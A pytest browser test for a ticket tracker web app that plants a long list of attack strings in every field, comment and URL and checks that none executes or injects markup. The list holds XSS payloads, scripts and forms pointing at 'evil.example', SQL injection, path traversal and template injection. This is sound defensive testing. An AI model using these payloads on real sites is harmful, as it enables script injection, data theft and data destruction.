"""A tracker whose every text is an attack, in a real browser: nothing runs, and texts are shown as texts."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from itertools import count, cycle, islice, repeat
from pathlib import Path
from urllib.parse import quote, urlencode, urlsplit

import pytest
from playwright.sync_api import Browser, Page

from offtracfs import records
from offtracfs.database import Database
from offtracfs.kinds import field_path
from offtracfs.web.pages import PAGES
from tests.browsers import chromium, visit
from tests.mounting import SPRING, SUMMER, append, new_database
from tests.test_web_server import served
from tests.test_wiki_hostile import PLACES
from tests.tickets import changed, rows

ATTACKS = [
    # A tag where text should be.
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=window.pwned=2>",
    "<svg/onload=window.pwned=3>",
    "<svg><script>window.pwned=4</script></svg>",
    "<svg><animate onbegin=window.pwned=5 attributeName=x dur=1s>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.pwned=6>x",
    "<iframe srcdoc='<script>parent.pwned=7</script>'></iframe>",
    "<object data=data:text/html,<script>top.pwned=8</script>></object>",
    "<details open ontoggle=window.pwned=9>x</details>",
    "<input autofocus onfocus=window.pwned=10>",
    "<video><source onerror=window.pwned=11></video>",
    "<body onload=window.pwned=12>",
    "<marquee onstart=window.pwned=13>x</marquee>",
    # What ends the text or the attribute that it stands in.
    '"><script>window.pwned=14</script>',
    "'><img src=x onerror=window.pwned=15>",
    '" autofocus onfocus="window.pwned=16" x="',
    "' onmouseover='window.pwned=17",
    "` onerror=`window.pwned=18",
    "</title></textarea></style></script><script>window.pwned=19</script>",
    "--><script>window.pwned=20</script><!--",
    "]]><script>window.pwned=21</script>",
    "</bdi></a></option></select></svg><img src=x onerror=window.pwned=22>",
    # What a parser changes its mind about.
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=23>">',
    "<template><img src=x onerror=window.pwned=24></template>",
    "<<script>window.pwned=25//<</script>",
    "<scr\0ipt>window.pwned=26</scr\0ipt>",
    "\ufeff<img/src/onerror=window.pwned=27>",
    "\u212amg <\u017fcript>window.pwned=28</\u017fcript>",
    "&lt;script&gt;window.pwned=29&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=30&#62;",
    "%3Cscript%3Ewindow.pwned=31%3C/script%3E",
    # Addresses that run.
    "javascript:window.pwned=32",
    "JaVa\tScRiPt:window.pwned=33",
    "\x01javascript:window.pwned=34",
    "javascript&colon;window.pwned=35",
    "&#106;avascript:window.pwned=36",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9Mzc8L3NjcmlwdD4=",
    "vbscript:window.pwned=38",
    "//evil.example/x",
    "/\\evil.example/x",
    # No script at all, but another page, another look, another place.
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<form id=version action=//evil.example/><input name=at><button>Go</button></form>",
    "<a id=main name=body href=//evil.example/ ping=//evil.example/>x</a>",
    "<img name=getElementById src=//evil.example/x.png>",
    # Templates, formats, numbers.
    "{{ 7 * 7 }}{% if 1 %}{{ site.__class__ }}",
    "${window.pwned=49}#{window.pwned=50}",
    "%(pwned)s %n {0.__class__}",
    "'; DROP TABLE ticket; --",
    "\u202e<script>window.pwned=53</script>\u2028window.pwned=54",
    "..%2f..%2f..%2fetc/passwd",
    "\x1b]0;pwned\x07",
]
FIELDS = (
    *("reporter", "owner", "type", "status", "resolution", "component", "milestone", "version", "priority"),
    *("severity", "keywords", "cc", "odd"),
)
FORMATS = {"json"}.union(*(page.formats for page in PAGES))
INTRUDERS = """() => {
  const bad = [...document.querySelectorAll(
    "script:not([src^='/static/']), style, iframe, object, embed, base, meta[http-equiv], template, math,"
    + "video, img, link:not([href^='/'])")].map(node => node.outerHTML);
  for (const node of document.querySelectorAll("*"))
    for (const {name, value} of node.attributes) {
      if (name.startsWith("on") || name === "style" || name === "ping") bad.push(node.outerHTML);
      if (["href", "src", "action", "formaction", "xlink:href"].includes(name)
          && !/^(https?|ftp|mailto):$/.test(new URL(value, location).protocol)) bad.push(node.outerHTML);
      if (["src", "action", "formaction"].includes(name) && new URL(value, location).host !== location.host)
        bad.push(node.outerHTML);
    }
  return bad.map(text => text.slice(0, 200));
}"""
"""Elements of a page that nobody but an attacker would have put there."""

LINKS = "all => all.map(a => new URL(a.getAttribute('href'), location).href.split('#')[0])"


def tracker(place: Path, tickets: int) -> Database:
    """A database in which each text is an attack; each attack stands in each field of one of 56 tickets."""
    database = new_database(place / "db")
    attacks = cycle(ATTACKS)
    labels = zip(("summary", "description", *FIELDS), attacks, strict=False)
    fields = [{"name": name, "type": "text", "label": label} for name, label in labels]
    files: dict[str, bytes | None] = {"fields.json": records.dump(fields)}
    later: dict[str, bytes | None] = {}
    for attack in ATTACKS:
        about = _filled(PLACES, repeat(attack))
        for kind in ("milestone", "component"):
            named = {"name": attack, "owner": attack, "description": about}
            files[field_path(kind, attack)] = records.dump(named)
    files |= {
        f"report/{number}.json": records.dump(
            {
                "title": attack,
                "description": attack,
                "sql": f"SELECT id AS ticket, summary, owner AS {_quoted(attack)}, status AS __group__ "
                "FROM ticket",
            }
        )
        for number, attack in zip(range(1, tickets + 1), attacks, strict=False)
    }
    for number in range(1, tickets + 1):
        values = dict(zip(FIELDS, islice(attacks, number * 7, None), strict=False))
        description = _filled(PLACES, islice(attacks, len(PLACES)))
        values |= {"summary": next(attacks), "description": description}
        values["status"] = values["status"] if number % 2 else "closed"
        log = []
        for comment, attack in zip(count(1), islice(attacks, len(ATTACKS)), strict=False):
            text = _filled(islice(cycle(PLACES), comment, comment + 3), repeat(attack))
            set_to = ("owner", attack, text[:90])
            log += rows(SPRING + comment, attack, ("comment", str(comment), text), set_to)
        log += rows(SUMMER - 1, attack, ("attachment", "", attack), ("description", attack, description))
        # An edited comment; see test_web_ticket.
        log += rows(SUMMER - 1, attack, ("comment", "999", attack + " now"), ("_comment0", attack, "1"))
        files |= changed(number, SPRING, [], summary=next(attacks), description=next(attacks))
        later |= changed(number, SUMMER, log, **values)
    append(database, (SPRING, files), (SUMMER, later))
    database.catch_up()
    return database


def _filled(places: Iterable[str], attacks: Iterable[str]) -> str:
    pairs = zip(places, attacks, strict=False)
    return "\n\n".join(place.replace("%s", attack) for place, attack in pairs)


def _quoted(name: str) -> str:
    return '"' + re.sub(r'["\0]', "", name) + '"'


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium."""
    with chromium() as browser:
        yield browser


@pytest.mark.parametrize("most", [3, pytest.param(len(ATTACKS), marks=pytest.mark.slow)])
def test_nothing_in_a_tracker_runs(browser: Browser, tmp_path: Path, most: int) -> None:
    """On all pages that links lead to, and with attacks in all parts of addresses, no text does anything."""
    with served(tracker(tmp_path, most)) as (_, address), visit(browser, address) as page:
        visited = {kind for kind, _ in crawled(page, address, most)}
        assert visited >= {"", "ticket", "report", "query", "timeline", "roadmap", "milestone", "component"}
        for where in attacked(most):
            page.goto(address + where)
            well(page)
        page.goto(f"{address}ticket/1")
        assert page.locator("h1 bdi").evaluate("node => node.textContent") in ATTACKS
        page.locator("#version").press("ArrowLeft")
        page.wait_for_url(re.compile("/@[0-9a-f]{40}/ticket/1$"))
        well(page)


def crawled(page: Page, address: str, most: int) -> Iterator[tuple[str, str]]:
    """Follows the links from the front page to so many addresses of each kind of page; all must be well."""
    found, seen = [address], dict.fromkeys([address])
    kinds: dict[str, int] = {}
    for where in found:
        path = urlsplit(where).path
        kind = re.sub(r"^/(@[^/]*/?)?", "", path).partition("/")[0]
        kinds[kind] = kinds.get(kind, 0) + 1
        if kinds[kind] > most or path.rpartition(".")[2] in FORMATS or path == "/api":
            continue
        answer = page.goto(where)
        assert answer is not None
        assert answer.status in (200, 404), where
        well(page)
        yield kind, where
        links = page.eval_on_selector_all("a[href^='/'], a[href^='?']", LINKS)
        new = [link for link in dict.fromkeys(links) if link not in seen]
        seen |= dict.fromkeys(new)
        found += new


def attacked(most: int) -> Iterator[str]:
    """Addresses without their first "/": attacks as moments, as names, and in each parameter of each page."""
    attacks = cycle(ATTACKS)
    for attack in islice(attacks, most):
        name = quote(attack, safe="")
        yield from (f"@{name}/", f"@{name}/ticket/1", f"{name}", f"ticket/{name}", f"milestone/{name}")
        yield from (f"person/{name}?by={name}", f"@2011-05-01/component/{name}?by=owner", f"?at={name}")
    for page in PAGES:
        path = page.rule.lstrip("/").replace("<int:number>", "1").replace("<named:name>", "x")
        for _ in range(most // 10 + 1):
            names = [*(parameter.name for parameter in page.parameters), "other"]
            query = dict(zip(names, attacks, strict=False))
            yield f"{path}?{urlencode(query)}"
            for name in names[:most]:
                yield f"{path}?{urlencode({name: next(attacks)})}"


def well(page: Page) -> None:
    """Nothing ran in a page, and nothing in it was put there by a text."""
    assert page.evaluate("window.pwned") is None, page.url
    assert page.evaluate(INTRUDERS) == [], page.url
    assert page.locator("main").count() == 1
    assert "rendering.Site" not in page.content()  # a template that came from a text
